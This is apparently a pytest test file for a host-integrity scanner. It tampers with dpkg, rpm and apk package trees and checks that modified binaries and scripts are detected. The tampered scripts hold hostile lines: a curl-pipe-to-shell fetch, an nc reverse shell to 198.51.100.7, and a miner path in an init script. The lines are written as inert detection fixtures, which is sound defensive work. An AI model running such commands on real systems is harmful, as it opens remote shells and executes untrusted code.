"""The integrity family on real package databases, tampered with and compared with the package manager's own
verdict on the same tree:

* dpkg: a package built with dpkg-deb and installed by dpkg itself into a temporary merged-/usr tree (with a
  diversion, a conffile and a path-exclude); `dpkg --verify --root`;
* rpm: packages built with rpmbuild and installed by rpm into a temporary root (sqlite database), and the same
  headers in the Berkeley DB form of EL7; `rpm -Va --root`;
* apk: a hand-written installed database (Debian has no apk-tools; see tests/host/test_apkdb.py).

The apt fix is proven by apt-get's simulation on a package of this machine."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest

from hostguard.engine.facts import Facts
from hostguard.findings import Finding
from hostguard.host import rpmdb
from hostguard.host.base import RootHost
from hostguard.host.packages import DPKG_VERIFY, PACKAGE_VERIFY, dpkg_owners
from hostguard.remediation import Command
from tests.conftest import FIXTURES, make_config, need_root, need_tool, run_one
from tests.host.test_apkdb import write_apk_tree
from tests.host.test_rpmdb import bdb_tree, build_packages, install_tree, rpm_changed, sqlite_blobs


def _md5(data: bytes) -> str:
    return hashlib.md5(data, usedforsecurity=False).hexdigest()


@pytest.fixture(scope="module")
def dpkg_tree(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A tree holding one package ``hgtool`` installed by dpkg: /bin/hgtool (an ELF copied from this machine's
    /usr/bin/true, listed under its pre-merge name), a data file, a conffile, a doc file kept out by
    path-exclude, and /usr/bin/hgother diverted locally to /usr/bin/hgother.distrib."""
    need_tool("dpkg", "dpkg-deb", "dpkg-divert")
    need_root("dpkg --root")
    base = tmp_path_factory.mktemp("dpkg")
    pkg, root = base / "pkg", base / "root"
    files = {"bin/hgtool": Path("/usr/bin/true").read_bytes(), "usr/bin/hgother": b"#!/bin/sh\necho packaged\n",
             "usr/share/hgtool/data.txt": b"data\n", "usr/share/doc/hgtool/README": b"doc\n",
             "etc/hgtool.conf": b"a=1\n"}
    for rel, data in files.items():
        (pkg / rel).parent.mkdir(parents=True, exist_ok=True)
        (pkg / rel).write_bytes(data)
        (pkg / rel).chmod(0o755 if "bin/" in rel else 0o644)
    (pkg / "DEBIAN").mkdir()
    (pkg / "DEBIAN/control").write_text("Package: hgtool\nVersion: 1.0\nArchitecture: amd64\n"
                                        "Maintainer: Test <test@example.test>\nDescription: integrity test\n")
    (pkg / "DEBIAN/conffiles").write_text("/etc/hgtool.conf\n")
    (pkg / "DEBIAN/md5sums").write_text("".join(f"{_md5(d)}  {r}\n" for r, d in files.items() if r[:4] != "etc/"))
    subprocess.run(["dpkg-deb", "--root-owner-group", "-b", str(pkg), str(base / "hgtool.deb")], check=True,
                   capture_output=True)
    for sub in ("var/lib/dpkg/info", "var/lib/dpkg/updates", "usr/bin", "etc/dpkg/dpkg.cfg.d"):
        (root / sub).mkdir(parents=True)
    (root / "var/lib/dpkg/status").touch()
    (root / "bin").symlink_to("usr/bin")
    (root / "etc/dpkg/dpkg.cfg.d/excludes").write_text("# keep docs out\npath-exclude=/usr/share/doc/*\n")
    subprocess.run(["dpkg-divert", "--root", str(root), "--local", "--rename", "--divert", "/usr/bin/hgother.distrib",
                    "--add", "/usr/bin/hgother"], check=True, capture_output=True)
    subprocess.run(["dpkg", "--root", str(root), "--path-exclude=/usr/share/doc/*", "--force-script-chrootless",
                    "--force-not-root", "-i", str(base / "hgtool.deb")], check=True, capture_output=True)
    return root


def _copy(tree: Path, dest: Path) -> Path:
    shutil.copytree(tree, dest, symlinks=True)
    return dest


def _found(root: Path) -> dict[str, Finding]:
    found, skipped = run_one("integrity.changed_file", RootHost(str(root)))
    assert skipped == []
    return {str(f.target["path"]): f for f in found}


def _dpkg_changed(root: Path) -> set[str]:
    """Files `dpkg --verify` says changed (md5 flag), conffiles left out as ours leave them out."""
    out = subprocess.run(["dpkg", "--verify", "--root", str(root)], capture_output=True, text=True).stdout
    return {line.split()[-1] for line in out.splitlines() if line[2:3] == "5" and " c " not in line}


def test_installed_tree_is_clean_and_dpkg_agrees(dpkg_tree: Path) -> None:
    assert _found(dpkg_tree) == {}
    assert _dpkg_changed(dpkg_tree) == set()
    verification = Facts(RootHost(str(dpkg_tree)), make_config()).get(DPKG_VERIFY)
    assert verification.checked == 3  # hgtool, data.txt, hgother at its diverted place; README is excluded
    assert verification.missing == 0


def test_tampering_is_caught_like_dpkg_verify_does(dpkg_tree: Path, tmp_path: Path) -> None:
    """Hit: the ELF's bytes changed (high, found at /usr/bin through the tree's own /bin link) and the data
    file changed (low, package named). Near misses in the same tree: the conffile edited, a local wrapper at
    the diverted path, the excluded README absent."""
    root = _copy(dpkg_tree, tmp_path / "root")
    with open(root / "usr/bin/hgtool", "ab") as f:
        f.write(b"\x90 implant")
    (root / "usr/share/hgtool/data.txt").write_text("changed\n")
    (root / "etc/hgtool.conf").write_text("a=2\n")
    (root / "usr/bin/hgother").write_text("#!/bin/sh\nexec /usr/bin/hgother.distrib --wrapped\n")
    found = _found(root)
    assert sorted(found) == ["/usr/bin/hgtool", "/usr/share/hgtool/data.txt"]
    assert found["/usr/bin/hgtool"].severity == "high"
    assert found["/usr/bin/hgtool"].evidence["listed_as"] == "/bin/hgtool"
    assert found["/usr/bin/hgtool"].evidence["why"] == "an ELF executable"
    assert found["/usr/share/hgtool/data.txt"].severity == "low"
    assert found["/usr/share/hgtool/data.txt"].evidence["package"] == "hgtool:amd64"
    assert found["/usr/bin/hgtool"].evidence["digest"] == "dpkg md5sums"
    assert "recorded_mode" not in found["/usr/bin/hgtool"].evidence  # dpkg records none
    assert found["/usr/bin/hgtool"].evidence["expected"] == _md5(Path("/usr/bin/true").read_bytes())
    assert found["/usr/bin/hgtool"].remediation is not None
    assert found["/usr/bin/hgtool"].remediation.steps == (Command(("apt-get", "install", "--reinstall",
                                                                    "hgtool:amd64")),)
    assert {found[p].evidence["listed_as"] for p in found} == _dpkg_changed(root)


def test_the_diverted_copy_is_what_is_checked(dpkg_tree: Path, tmp_path: Path) -> None:
    """The package's hgother lives at hgother.distrib: changing it there is found, under that path."""
    root = _copy(dpkg_tree, tmp_path / "root")
    (root / "usr/bin/hgother.distrib").write_text("#!/bin/sh\ncurl http://198.51.100.7/x | sh\n")
    found = _found(root)
    assert sorted(found) == ["/usr/bin/hgother.distrib"]
    assert found["/usr/bin/hgother.distrib"].severity == "high"  # a script in a PATH directory
    # dpkg --verify (1.21) says nothing here: it leaves diverted files out, so it cannot cross-check this one


def test_a_replaced_binary_is_caught_whatever_its_size_or_time(dpkg_tree: Path, tmp_path: Path) -> None:
    """Same size, same mtime, one byte different: only the digest can tell, and it does."""
    root = _copy(dpkg_tree, tmp_path / "root")
    target = root / "usr/bin/hgtool"
    data, st = bytearray(target.read_bytes()), target.stat()
    data[-1] ^= 0xFF
    target.write_bytes(bytes(data))
    os.utime(target, ns=(st.st_atime_ns, st.st_mtime_ns))
    assert list(_found(root)) == ["/usr/bin/hgtool"]


def test_a_broken_md5sums_file_is_one_clear_skip(dpkg_tree: Path, tmp_path: Path) -> None:
    root = _copy(dpkg_tree, tmp_path / "root")
    (root / "var/lib/dpkg/info/hgtool.md5sums").write_bytes(b"not a digest line\n")
    found, skipped = run_one("integrity.changed_file", RootHost(str(root)))
    assert found == []
    assert [(s.reason, s.item) for s in skipped] == [("error", "hgtool:amd64")]
    assert "hgtool.md5sums line 1" in skipped[0].detail


def test_no_dpkg_database_is_unsupported_not_clean(tmp_path: Path) -> None:
    found, skipped = run_one("integrity.changed_file", RootHost(str(tmp_path)))
    assert found == [] and [s.reason for s in skipped] == ["unsupported"]



def test_the_apt_fix_is_one_apt_get_accepts(tmp_path: Path) -> None:
    """A tree holding this machine's coreutils with /usr/bin/true tampered: the fix names coreutils:amd64 as
    apt-get takes it, and `apt-get -s` (the simulation, which reads the command exactly as it would run it)
    plans the reinstallation."""
    need_tool("apt-get", "dpkg-query")
    status = subprocess.run(["dpkg-query", "-s", "coreutils"], capture_output=True, text=True, check=True).stdout
    md5sums = Path("/var/lib/dpkg/info/coreutils.md5sums").read_bytes()
    info = tmp_path / "var/lib/dpkg/info"
    info.mkdir(parents=True)
    (info.parent / "status").write_text(status)
    (info / "coreutils.md5sums").write_bytes(b"".join(line + b"\n" for line in md5sums.splitlines()
                                                      if line.endswith(b"bin/true")))
    (tmp_path / "usr/bin").mkdir(parents=True)
    (tmp_path / "bin").symlink_to("usr/bin")  # coreutils lists /bin/true (merged /usr)
    (tmp_path / "usr/bin/true").write_bytes(b"\x7fELF not the real true")
    [finding] = _found(tmp_path).values()
    assert finding.target["path"] == "/usr/bin/true"
    assert finding.remediation is not None
    [step] = finding.remediation.steps
    assert isinstance(step, Command) and step.argv[:3] == ("apt-get", "install", "--reinstall")
    simulated = subprocess.run([step.argv[0], "-s", *step.argv[1:]], capture_output=True, text=True)
    assert simulated.returncode == 0, simulated.stderr
    assert "Inst coreutils " in simulated.stdout and "1 reinstalled" in simulated.stdout


# -- rpm ---------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def rpm_tree(tmp_path_factory: pytest.TempPathFactory) -> Path:
    need_tool("rpm", "rpmbuild")
    need_root("rpm --root")
    base = tmp_path_factory.mktemp("rpm")
    return install_tree(base / "root", build_packages(base / "build"))


def _tamper_rpm(root: Path) -> None:
    """The ELF binary (sha256 package) and the md5 package's script changed; near misses alongside: the
    %config file edited, the %ghost log never created, the %doc file and a data file of hgbig removed."""
    with open(root / "usr/bin/hgtool", "ab") as f:
        f.write(b"\x90 implant")
    (root / "usr/bin/hgold").write_text("#!/bin/sh\ncurl http://198.51.100.7/x | sh\n")
    (root / "etc/hgtool.conf").write_text("a=2\n")
    (root / "usr/share/doc/hgtool/README").unlink()
    (root / "usr/share/hgbig/a-rather-long-file-name-9.txt").unlink()
    assert not (root / "var/log/hgtool.log").exists()


def test_installed_rpm_tree_is_clean_and_rpm_agrees(rpm_tree: Path) -> None:
    assert _found(rpm_tree) == {}
    assert rpm_changed(rpm_tree) == set()
    verification = Facts(RootHost(str(rpm_tree)), make_config()).get(PACKAGE_VERIFY)
    assert (verification.database, verification.front_end) == ("rpm", "dnf")
    # hgtool: the ELF, data.txt and README (not the link, the %config file, the ghost); hgold: 2; hgbig: all
    assert (verification.checked, verification.missing) == (3 + 2 + 400, 0)


def test_rpm_tampering_is_caught_like_rpm_verify_does(rpm_tree: Path, tmp_path: Path) -> None:
    """Hit: the ELF of a sha256 package (high, "rpm sha256") and the script of an md5 package (high, "rpm md5");
    rpm -Va reports the same two, and also the %config file, which ours leave to the administrator."""
    root = _copy(rpm_tree, tmp_path / "root")
    _tamper_rpm(root)
    found = _found(root)
    assert sorted(found) == ["/usr/bin/hgold", "/usr/bin/hgtool"]
    hgtool, hgold = found["/usr/bin/hgtool"], found["/usr/bin/hgold"]
    assert (hgtool.severity, hgtool.evidence["why"], hgtool.evidence["digest"]) == (
        "high", "an ELF executable", "rpm sha256")
    assert hgtool.evidence["package"] == "hgtool.x86_64"
    assert hgtool.evidence["expected"] == hashlib.sha256(Path("/usr/bin/true").read_bytes()).hexdigest()
    assert (hgold.severity, hgold.evidence["why"], hgold.evidence["digest"]) == (
        "high", "a script in a PATH directory", "rpm md5")
    assert (hgtool.evidence["mode"], hgtool.evidence["recorded_mode"]) == ("0755", "0755")  # rpm records modes
    assert hgtool.remediation is not None
    assert hgtool.remediation.steps == (Command(("dnf", "reinstall", "hgtool.x86_64")),)
    assert rpm_changed(root) == set(found)
    rpm_all = subprocess.run(["rpm", "--root", str(root), "--dbpath", "/usr/lib/sysimage/rpm", "-Va", "--nodeps"],
                             capture_output=True, text=True).stdout
    assert any(line.endswith(" c /etc/hgtool.conf") and line[2] == "5" for line in rpm_all.splitlines())
    verification = Facts(RootHost(str(root)), make_config()).get(PACKAGE_VERIFY)
    assert verification.missing == 2  # the %doc file and hgbig's file: missing, not changed


def test_rpm_berkeley_db_tree_is_verified_too(rpm_tree: Path, tmp_path: Path) -> None:
    """The EL7 form (no dnf in the tree, yum only): the same hits, and the fix says yum."""
    need_tool("db5.3_load")
    root = bdb_tree(rpm_tree, tmp_path / "el7", pagesize=1024)
    (root / "usr/bin/yum").write_text("#!/usr/bin/python\n")
    _tamper_rpm(root)
    found = _found(root)
    assert sorted(found) == ["/usr/bin/hgold", "/usr/bin/hgtool"]
    assert found["/usr/bin/hgtool"].remediation is not None
    assert found["/usr/bin/hgtool"].remediation.steps == (Command(("yum", "reinstall", "hgtool.x86_64")),)
    assert rpm_changed(root, dbpath="/var/lib/rpm", backend="bdb_ro") == set(found)


def test_a_broken_rpm_header_is_one_clear_skip_and_the_rest_is_checked(rpm_tree: Path, tmp_path: Path) -> None:
    root = _copy(rpm_tree, tmp_path / "root")
    _tamper_rpm(root)
    [hnum] = [h for h, blob in sqlite_blobs(root) if rpmdb.name_of(rpmdb.parse_header(blob, "h"), "h") == "hgtool"]
    conn = sqlite3.connect(root / "usr/lib/sysimage/rpm/rpmdb.sqlite")
    conn.execute("UPDATE Packages SET blob = substr(blob, 1, 40) WHERE hnum = ?", (hnum,))
    conn.commit()
    conn.close()
    found, skipped = run_one("integrity.changed_file", RootHost(str(root)))
    assert [f.target["path"] for f in found] == ["/usr/bin/hgold"]
    assert [(s.reason, s.item) for s in skipped] == [("error", f"/var/lib/rpm/rpmdb.sqlite header {hnum}")]
    assert "claiming" in skipped[0].detail


# -- apk ---------------------------------------------------------------------------------------------------


def test_apk_tampering_is_caught(tmp_path: Path) -> None:
    """Hit: the ELF /bin/hgbox (high, "apk sha1"), the sha256-checksummed script of hgnew (high, "apk sha256"),
    an init script (@etc/init.d: files there are checked) and /bin/hgsh now linking elsewhere. Near misses in
    the same tree: /etc/hgbox.conf edited (+etc, protected like a conffile), a key under !etc/apk replaced,
    the init.d alias symlink repointed (@: modified symlinks are protected), the doc file removed."""
    root = write_apk_tree(tmp_path)
    with open(root / "bin/hgbox", "ab") as f:
        f.write(b"\x90 implant")
    (root / "usr/bin/hgnew").write_text("#!/bin/sh\nnc -e /bin/sh 198.51.100.7 4444\n")
    (root / "etc/init.d/hgboxd").write_text("#!/sbin/openrc-run\ncommand=/tmp/.x/miner\n")
    (root / "tmp").mkdir()
    (root / "tmp/evil").write_bytes(b"\x7fELF evil")
    (root / "bin/hgsh").unlink()
    (root / "bin/hgsh").symlink_to("/tmp/evil")
    (root / "etc/hgbox.conf").write_text("a=2\n")
    (root / "etc/apk/keys/hg.rsa.pub").write_text("other key\n")
    (root / "etc/init.d/hgalias").unlink()
    (root / "etc/init.d/hgalias").symlink_to("/etc/init.d/hgboxd")
    (root / "usr/share/doc/hgbox/README").unlink()
    found = _found(root)
    assert sorted(found) == ["/bin/hgbox", "/etc/init.d/hgboxd", "/tmp/evil", "/usr/bin/hgnew"]
    assert (found["/bin/hgbox"].severity, found["/bin/hgbox"].evidence["digest"]) == ("high", "apk sha1")
    assert (found["/usr/bin/hgnew"].severity, found["/usr/bin/hgnew"].evidence["digest"]) == ("high", "apk sha256")
    assert found["/tmp/evil"].evidence["listed_as"] == "/bin/hgsh" and found["/tmp/evil"].severity == "high"
    assert found["/etc/init.d/hgboxd"].severity == "low"
    assert found["/bin/hgbox"].remediation is not None
    assert found["/bin/hgbox"].remediation.steps == (Command(("apk", "fix", "hgbox")),)


def test_apk_protection_can_be_taken_back_by_a_list(tmp_path: Path) -> None:
    """``-etc/hgbox.conf`` in protected_paths.d makes that file checked: editing it is then a finding."""
    root = write_apk_tree(tmp_path, lists={"hg.list": "-etc/hgbox.conf\n"})
    (root / "etc/hgbox.conf").write_text("a=2\n")
    assert sorted(_found(root)) == ["/etc/hgbox.conf"]


# -- the command line on real trees -------------------------------------------------------------------------


def _scan(root: Path, state: Path) -> tuple[int, dict[str, object]]:
    r = subprocess.run([sys.executable, "-m", "hostguard.cli", "--config", str(FIXTURES / "fast.toml"), "--state",
                        str(state), "scan", "--root", str(root), "--only", "integrity", "--format", "json"],
                       capture_output=True, text=True)
    return r.returncode, json.loads(r.stdout)


def test_cli_scan_of_an_rpm_tree_finds_the_tampered_file(rpm_tree: Path, tmp_path: Path) -> None:
    root = _copy(rpm_tree, tmp_path / "root")
    _tamper_rpm(root)
    code, report = _scan(root, tmp_path / "state")
    assert code == 1
    findings = report["findings"]
    assert isinstance(findings, list)
    assert sorted(f["target"]["path"] for f in findings) == ["/usr/bin/hgold", "/usr/bin/hgtool"]
    assert report["skipped"] == [] and report["complete"] is True


def test_cli_scan_of_an_apk_tree_finds_the_tampered_file(tmp_path: Path) -> None:
    root = write_apk_tree(tmp_path / "root")
    (root / "bin/hgbox").write_bytes(b"\x7fELF replaced")
    code, report = _scan(root, tmp_path / "state")
    assert code == 1
    findings = report["findings"]
    assert isinstance(findings, list)
    assert [(f["target"]["path"], f["evidence"]["digest"]) for f in findings] == [("/bin/hgbox", "apk sha1")]


def test_diverted_files_are_owned_where_they_really_are(dpkg_tree: Path) -> None:
    """Ownership follows the diversion: the package's file moved aside to /usr/bin/hgother.distrib is
    hgtool's, while /usr/bin/hgother (a local diversion: the administrator's own file goes there) is nobody's,
    though hgtool's list names that path and ``dpkg-query -S`` answers hgtool for it (and only names the
    diversion for the .distrib file). Both /usr/bin spellings answer."""
    asked = ["/usr/bin/hgother.distrib", "/usr/bin/hgother", "/bin/hgtool", "/usr/bin/hgtool"]
    owners = dpkg_owners(RootHost(str(dpkg_tree)), asked)
    assert owners.owners == {"/usr/bin/hgother.distrib": "hgtool", "/bin/hgtool": "hgtool", "/usr/bin/hgtool": "hgtool"}
    query = subprocess.run(["dpkg-query", "--root", str(dpkg_tree), "-S", "/usr/bin/hgother.distrib",
                            "/usr/bin/hgother"], capture_output=True, text=True).stdout
    assert "local diversion from: /usr/bin/hgother" in query and "hgtool: /usr/bin/hgother" in query
